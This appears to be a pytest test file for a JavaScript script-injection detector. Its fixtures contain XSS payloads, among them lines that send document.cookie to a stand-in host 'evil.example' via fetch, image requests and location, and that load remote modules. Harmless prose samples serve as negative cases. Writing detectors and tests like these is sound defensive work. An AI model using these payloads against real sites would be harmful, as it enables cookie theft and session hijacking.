"""JavaScript as tokens, and what of it acts in a script that prints a value."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tcpmirror.detect.script import tokens
from tcpmirror.detect.script_injection import acts, breaks_out, is_call, skeleton

TOKENS = {
    "call": (b"alert(1)", 0, "k(n)"),
    "behind a quote": (b"x';eval(name)//", 39, ";k(b)-"),
    "no such quote": (b"alert(1)", 34, None),
    "member": (b"document.cookie", 0, "g.p"),
    "template": (b"alert`1`", 0, "kt"),
    "string left open": (b"a='x", 0, "b=q"),
    "regular expression": (b"b(/e/.source)", 0, "b(r.p)"),
    "division": (b"a / b / c", 0, "bobob"),
    "comments": (b"alert/*x*/(1)//y\n;b", 0, "k(n);b"),
    "escaped quote": (rb"'a\'b'+c", 0, "sob"),
    "arrow and comparison": (b"a=>b===c", 0, "babcb"),
    "name in escapes": (rb"\u0061lert(1)", 0, "k(n)"),
    "what no script holds": (b"a # b", 0, "bxb"),
}
ACTING = {
    "call": b"alert(1)",
    "call of another": b"confirm`1`",
    "string broken": b"';alert(1)//",
    "arithmetic": b'"-alert(1)-"',
    "arithmetic with a string": b"'+prompt(8)+'",
    "brackets broken": b"'];a=eval;b=alert;a(b(15));//",
    "block broken": b"}alert(/X/);{//",
    "escaped by a back slash": rb"\";alert(1);//",
    "left open": b"');alert('XSS",
    "template": b"${alert(1)}",
    "member by name": b"top['al'+'ert'](1)",
    "member by template": b"window[`alert`](1)",
    "renamed": b"a=alert,a(1)",
    "handed on": b"[1].find(alert)",
    "cookie": b"document.cookie",
    "page": b"x';document.body.innerHTML='<h1>';//",
    "elsewhere": b"location='http://evil.example'",
    "elsewhere with data": b"document.location.href='http://evil.example/?'+document.cookie",
    "picture": b'new Image().src="//evil.example/?"+document.cookie',
    "request": b"fetch('//evil.example?'+document.cookie)",
    "module": b"import('//evil.example')",
    "letters by number": b"eval(String.fromCharCode(97,108))",
    "constructors": b"constructor.constructor('alert(1)')()",
    "without letters": b"[][(![]+[])[+[]]+(![]+[])](1)",
    "handler that throws": b"throw onerror=alert,1",
}
IDLE = {
    "prose with brackets": b"an alert (the second)",
    "prose with a verb": b"please confirm (yes)",
    "prose with semicolons": b"it's; top of the line (new)",
    "apostrophes": b"Let's document; this (x) is 'it'",
    "a name and a place": b"O'Brien, Top (dog)",
    "a shell's variable": b"window = open",
    "a label": b"location: Berlin (Mitte)",
    "a dimension": b"5'10\" (top)",
    "an address": b"https://shop.example/?url=location&body=1",
    "a document": b'{"a":"b","open":1}',
    "a function of a program": b"function (operation) {\n  if (typeof (operation) !== 'function') throw 'not a function';\n" + b"  let x = 1;\n" * 40 + b"}",
    "a log": b'TypeError: "x" is not a function (at f.js:1)',
    "possessives": b"the parents' window (open) and the self's document",
}  # fmt: skip


@pytest.mark.parametrize(("value", "quote", "expected"), TOKENS.values(), ids=TOKENS)
def test_values_are_read_as_tokens(value: bytes, quote: int, expected: str | None) -> None:
    assert tokens(value, quote) == expected


@pytest.mark.parametrize("value", ACTING.values(), ids=ACTING)
def test_code_that_acts_is_told(value: bytes) -> None:
    assert acts(value), skeleton(value)


@pytest.mark.parametrize("value", IDLE.values(), ids=IDLE)
def test_what_only_looks_like_code_is_not(value: bytes) -> None:
    assert not acts(value), skeleton(value)


def test_a_call_alone_commands_and_one_behind_a_quote_breaks_out() -> None:
    assert is_call(b"alert(1)") and not breaks_out(b"alert(1)")
    assert breaks_out(b"x';alert(1)//") and not is_call(b"x';alert(1)//")


@given(st.binary(max_size=300))
def test_any_bytes_are_read(value: bytes) -> None:
    for quote in (0, 34, 39, 96):
        assert len(tokens(value, quote) or "") <= 160
